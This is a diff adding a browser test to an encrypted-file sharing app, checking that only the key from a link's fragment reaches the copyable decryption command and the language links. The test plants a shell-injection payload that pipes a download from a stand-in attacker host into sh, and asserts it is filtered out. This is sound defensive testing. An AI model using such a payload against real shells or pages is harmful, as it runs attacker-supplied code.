@@ -153,6 +153,32 @@ describe("the page of an encrypted file", { skip: browserMissing }, () => {
     assert.deepEqual(complaints, []);
   });
 
+  test("takes nothing but the key of a link into the command to copy, and into the links to other languages", async () => {
+    const evil = "x=';curl$IFS-evil.example|sh;'";
+    const { shortId, shareToken = "" } = (await clientOf(server).call("createShare", {})).data;
+    const files = ["a.txt.age", "b.txt.age"].map(async (relativePath) => ({
+      relativePath,
+      bytes: await encrypt(Buffer.from(relativePath)),
+    }));
+    await postBatch(server, { shareShortId: shortId, shareToken }, await Promise.all(files));
+    const cases = [
+      { hash: `#key=${key.identity}&${evil}`, expected: withFragmentKey(linkOf({ shortId }), key.identity) },
+      { hash: `#${evil}&key=${key.identity.toLowerCase()}`, expected: withFragmentKey(linkOf({ shortId }), key.identity) },
+      { hash: `#${evil}`, expected: linkOf({ shortId }) },
+      { hash: `#key=${key.identity}';${evil}`, expected: linkOf({ shortId }) },
+    ];
+    for (const { hash, expected } of cases) {
+      await using opened = await openPage(browser);
+      const { page } = opened;
+      await page.goto(`${linkOf({ shortId })}${hash}`);
+      await page.locator("#decryption-command").waitFor();
+      assert.equal(await page.locator("#decryption-command").textContent(), `filehost down '${expected}'`);
+      assert.doesNotMatch((await page.locator("main").textContent()) ?? "", /evil/);
+      const hashes = await page.locator(".foot a[hreflang]").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).hash));
+      for (const one of hashes) assert.equal(one, new URL(expected).hash);
+    }
+  });
+
   test("offers the encrypted bytes too, and only those of encrypted files to its script", async () => {
     const sealed = await encrypt(BYTES);
     const file = await send(sealed);
